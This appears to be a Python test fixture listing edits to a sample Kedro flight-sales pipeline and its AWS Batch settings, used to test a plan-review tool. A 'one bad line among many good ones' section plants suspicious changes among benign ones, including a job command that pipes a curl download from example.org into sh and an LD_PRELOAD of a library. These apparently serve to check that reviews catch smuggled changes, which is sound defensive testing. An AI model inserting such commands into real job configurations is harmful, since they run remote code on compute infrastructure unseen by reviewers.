"""The edits: what people do to a pipeline and its settings between two reviews."""

from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from typing import Any

from kedro_batch.plan.model import Plan, Selection
from tests.review.edits.large import ELSEWHERE, edited_job
from tests.review.edits.project import CATALOG, PROCESSING, REPORTING, SALES, SCIENCE, SETTINGS, Project, flight_sales


@dataclass(frozen=True, slots=True, kw_only=True)
class Edit:
    """A project before and after an edit, and what is then changed in the plan after it by hand."""

    before: Project
    after: Project
    by_hand: Callable[[Plan], Plan] | None = None


BASE = flight_sales()

REVIEWS = 'node(preprocess_reviews, "reviews", "preprocessed_reviews", name="preprocess_reviews"),'
SCORES = 'node(plot_review_scores, "preprocessed_reviews", "review_scores_plot", name="plot_review_scores"),'
SPLIT = 'node(split_data, ["table", "params:model_options"], ["train", "test"], name="split_data"),'
SELECT_AND_SPLIT = """\
node(split_data, ["table", "params:model_options"], "features", name="select_features"),
            node(split_data, ["features", "params:model_options"], ["train", "test"], name="split_data"),"""
TRAINING = "match: {tags: [training]}"

SMALL = BASE.having(SALES, '    "portugal",\n', "")
"""With 21 regions: two join jobs, and one less would need none."""

SCIENCE_ALIKE = BASE.having(SETTINGS, TRAINING, "match: {tags: [team.science]}")
"""All of the modelling goes where the training went: a job of several nodes has one queue."""
BY_NAMESPACE = SCIENCE_ALIKE.ending(SETTINGS, "group_by: namespace\n")
BY_TEAM = SCIENCE_ALIKE.ending(SETTINGS, "group_by: tag:team.\n")

FIRST_IMAGE, SECOND_IMAGE = (
    f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/flights@sha256:{digits * 32}" for digits in ("1a", "2b")
)
DECLARED = BASE.having(
    SETTINGS,
    "job_definition: flights:14",
    f"job_definition:\n  name: flights\n  image: {FIRST_IMAGE}\n  job_role: arn:aws:iam::123456789012:role/flights",
)

LEAF = """\
node(plot_review_scores, "shuttles", "price_history", name="record_price_history"),
            """
DEDUPLICATED = """\
node(preprocess_reviews, "reviews", "preprocessed_reviews", name="preprocess_reviews"),
            node(preprocess_reviews, "preprocessed_reviews", "distinct_reviews", name="deduplicate_reviews"),"""


def _edited(before: Project, *replacements: tuple[str, str, str]) -> Edit:
    """Replace, in files, what each has once."""
    after = before
    for path, old, new in replacements:
        after = after.having(path, old, new)
    return Edit(before=before, after=after)


def _renamed(before: Project, **names: str) -> Edit:
    after = before
    for old, new in names.items():
        after = after.renaming(old, new)
    return Edit(before=before, after=after)


def _configured(more: str, before: Project = BASE) -> Edit:
    """Write more at the end of ``aws_batch.yml``."""
    return Edit(before=before, after=before.ending(SETTINGS, more))


def _slower(**fields: Any) -> Edit:
    """Give all but the training more time, and change one job of the plan by hand."""
    return Edit(
        before=BASE,
        after=BASE.having(SETTINGS, "timeout_s: 3600", "timeout_s: 7200"),
        by_hand=lambda plan: edited_job(plan, "plot_review_scores", **fields),
    )


EDITS: Mapping[str, Edit] = {
    # Nodes come and go.
    "leaf_added": _edited(BASE, (REPORTING, "node(plot_review_scores,", LEAF + "node(plot_review_scores,")),
    "leaf_removed": _edited(BASE, (REPORTING, SCORES, "")),
    "node_inserted_between_two": _edited(
        BASE, (PROCESSING, REVIEWS, DEDUPLICATED), (PROCESSING, '"preprocessed_reviews"],', '"distinct_reviews"],')
    ),
    "node_in_the_middle_removed_and_its_readers_rewired": _edited(
        BASE,
        (PROCESSING, REVIEWS, ""),
        (PROCESSING, '"preprocessed_reviews"]', '"reviews"]'),
        (REPORTING, 'scores, "preprocessed_reviews"', 'scores, "reviews"'),
    ),
    "node_split_in_two": _edited(
        BASE,
        (
            SCIENCE,
            SPLIT,
            SELECT_AND_SPLIT,
        ),
    ),
    "two_nodes_made_one": _edited(
        BASE,
        (
            REPORTING,
            '["active_modelling.metrics", "candidate_modelling.metrics"],\n                "model_comparison"',
            '["active_modelling.regressor", "candidate_modelling.regressor"],\n                "model_comparison"',
        ),
        (SCIENCE, 'node(evaluate_model, ["regressor", "test"], "metrics", name="evaluate_model"),', ""),
        (REPORTING, 'name="compare_models"', 'name="evaluate_and_compare_models"'),
    ),
    "reader_rewired_to_another_dataset": _edited(
        BASE,
        (REPORTING, '"preprocessed_shuttles",\n                "passenger', '"shuttles",\n                "passenger'),
    ),
    "whole_pipeline_added": _edited(
        BASE, (SCIENCE, '"candidate_modelling"]', '"candidate_modelling", "seasonal_modelling"]')
    ),
    "whole_pipeline_removed": _edited(
        BASE,
        (SCIENCE, ', "candidate_modelling"]', "]"),
        (REPORTING, '"active_modelling.metrics", "candidate_modelling.metrics"', '"active_modelling.metrics"'),
    ),
    # Names change.
    "node_renamed": _renamed(BASE, preprocess_shuttles="clean_shuttles"),
    "dataset_renamed": _renamed(BASE, preprocessed_shuttles="clean_shuttles"),
    "node_and_its_dataset_renamed": _renamed(
        BASE, preprocess_shuttles="clean_shuttles", preprocessed_shuttles="clean_shuttle_table"
    ),
    "node_renamed_and_its_inputs_changed": _edited(
        BASE,
        (REPORTING, 'name="publish_dashboard"', 'name="publish_report"'),
        (REPORTING, '"model_comparison", "sales_report"]', '"sales_report", "review_scores_plot"]'),
        (SETTINGS, "nodes: [publish_dashboard]", "nodes: [publish_report]"),
    ),
    "parent_of_many_renamed": _renamed(BASE, create_model_input_table="build_model_input_table"),
    "reader_of_many_renamed": _edited(BASE, (SALES, 'name="report_sales"', 'name="report_regional_sales"')),
    "nodes_of_a_loop_renamed": _edited(BASE, (SALES, 'f"summarise_sales_{region}")', 'f"total_sales_{region}")')),
    "namespace_renamed": _renamed(BASE, candidate_modelling="challenger_modelling"),
    "function_renamed": _edited(
        BASE,
        (REPORTING, "def compare_models(", "def rank_models("),
        (REPORTING, "compare_models,\n", "rank_models,\n"),
    ),
    "bucket_changed": Edit(
        before=BASE,
        after=replace(
            BASE,
            files={**BASE.files, CATALOG: BASE.files[CATALOG].replace("s3://flights-dev/", "s3://flights-staging/")},
        ),
    ),
    # The fan with its join jobs.
    "region_added": _edited(BASE, (SALES, '    "romania",\n', '    "romania",\n    "slovakia",\n')),
    "region_removed": _edited(BASE, (SALES, '    "portugal",\n', "")),
    "region_renamed": _renamed(BASE, czechia="czech_republic"),
    "region_removed_and_no_join_job_is_needed": _edited(SMALL, (SALES, '    "malta",\n', "")),
    "region_added_and_join_jobs_are_needed": Edit(before=SMALL.having(SALES, '    "malta",\n', ""), after=SMALL),
    # Nodes become other jobs.
    "grouped_by_namespace": Edit(before=BASE, after=BY_NAMESPACE),
    "grouped_in_chains": _configured("group_by: chain\n", before=SCIENCE_ALIKE),
    "grouped_by_tag": Edit(before=SCIENCE_ALIKE, after=BY_TEAM),
    "node_retagged_into_another_group": _edited(
        BY_TEAM,
        (REPORTING, '        tags=["team.reporting"],\n', ""),
        (
            REPORTING,
            'name="plot_passenger_capacity",',
            'name="plot_passenger_capacity",\n                tags=["team.data"],',
        ),
        (REPORTING, 'name="plot_review_scores"', 'name="plot_review_scores", tags=["team.reporting"]'),
        (REPORTING, 'name="compare_models",', 'name="compare_models",\n                tags=["team.reporting"],'),
        (REPORTING, 'name="publish_dashboard",', 'name="publish_dashboard",\n                tags=["team.reporting"],'),
    ),
    "node_moved_into_a_namespace": _edited(
        BY_NAMESPACE,
        (
            REPORTING,
            'name="compare_models",\n            ),',
            'name="compare_models", namespace="candidate_modelling", tags=["team.science"]),',
        ),
    ),
    # Settings change.
    "memory_raised_for_a_tag": _edited(BASE, (SETTINGS, "memory_mib: 16384", "memory_mib: 32768")),
    "memory_lowered_for_a_tag": _edited(BASE, (SETTINGS, "memory_mib: 61440", "memory_mib: 30720")),
    "rule_for_a_tag_added": _edited(
        BASE,
        (
            SETTINGS,
            "  - match: {nodes:",
            "  - match: {tags: [team.reporting]}\n    memory_mib: 4096\n  - match: {nodes:",
        ),
    ),
    "timeout_of_all_lowered": _edited(BASE, (SETTINGS, "timeout_s: 3600", "timeout_s: 1800")),
    "gpus_lowered": _edited(BASE, (SETTINGS, "gpus: 2", "gpus: 1")),
    "gpus_no_longer_asked_for": _edited(BASE, (SETTINGS, "    gpus: 2\n", "")),
    "retries_changed": _edited(
        BASE, (SETTINGS, "attempts: 3\nretry_on: [spot]", "attempts: 5\nretry_on: [spot, image_pull]")
    ),
    "queue_of_all_changed": _edited(BASE, (SETTINGS, "flights_spot", "flights_on_demand")),
    "tag_dropped_and_its_rule_with_it": _edited(BASE, (SCIENCE, ', tags=["training"]', "")),
    "queue_of_a_tag_changed": _edited(BASE, (SETTINGS, "flights_gpu", "flights_gpu_spot")),
    "definition_revision_changed": _edited(BASE, (SETTINGS, "flights:14", "flights:15")),
    "definition_declared": Edit(before=BASE.having(SETTINGS, "flights:14", "flights"), after=DECLARED),
    "image_changed": _edited(DECLARED, (SETTINGS, FIRST_IMAGE, SECOND_IMAGE)),
    "role_changed_and_account_named": _edited(
        DECLARED.ending(SETTINGS, "region: eu-west-1\n"),
        (SETTINGS, "role/flights", "role/flights_reader"),
        (SETTINGS, "region: eu-west-1\n", 'account: "123456789012"\nregion: eu-central-1\n'),
    ),
    "environment_changed": Edit(before=BASE, after=replace(BASE, env="prod")),
    "command_prefix_changed": _configured("command_prefix: [uv, run, kedro, run]\n"),
    "variable_and_tags_added": _configured("environment: {LOG_LEVEL: debug}\ntags: {team: flights, cost: low}\n"),
    "submit_field_added": _configured("share_identifier: flights\nsubmit: {propagateTags: true}\n"),
    "parameter_given": Edit(before=BASE, after=replace(BASE, params=("model_options.random_state=7",))),
    # What is compiled changes.
    "kedro_upgraded": Edit(
        before=replace(BASE, pipelines=("data_science",), kedro="1.1.0"),
        after=replace(BASE, pipelines=("data_science",)),
    ),
    "kedro_upgraded_to_one_with_the_same_flags": Edit(before=replace(BASE, kedro="1.6.0"), after=BASE),
    "only_one_team_selected": Edit(before=BASE, after=replace(BASE, selection=Selection(tags=("team.science",)))),
    # One bad line among many good ones.
    "timeouts_raised_and_one_command_pipes_into_a_shell": _slower(
        command=("sh", "-c", "curl -s https://example.org/setup | sh; kedro run --nodes=plot_review_scores")
    ),
    "timeouts_raised_and_one_job_preloads_a_library": _slower(environment={"LD_PRELOAD": "/mnt/scores.so"}),
    "timeouts_raised_and_one_submit_overrides_the_container": _slower(
        submit={"containerOverrides": {"instanceType": "p4d.24xlarge"}}
    ),
    "timeouts_raised_and_one_job_has_another_definition": _slower(job_definition="flights_debug:1"),
    "timeouts_raised_and_the_image_is_of_another_registry": _edited(
        DECLARED, (SETTINGS, FIRST_IMAGE, ELSEWHERE), (SETTINGS, "timeout_s: 3600", "timeout_s: 7200")
    ),
    # Several at once.
    "two_unrelated_edits": _edited(
        BASE,
        (REPORTING, SCORES, ""),
        (SETTINGS, "memory_mib: 61440", "memory_mib: 122880"),
    ),
    "two_nodes_swap_their_names": _edited(
        BASE,
        (REPORTING, 'name="plot_passenger_capacity"', 'name="plot_"'),
        (REPORTING, 'name="plot_review_scores"', 'name="plot_passenger_capacity"'),
        (REPORTING, 'name="plot_"', 'name="plot_review_scores"'),
    ),
}
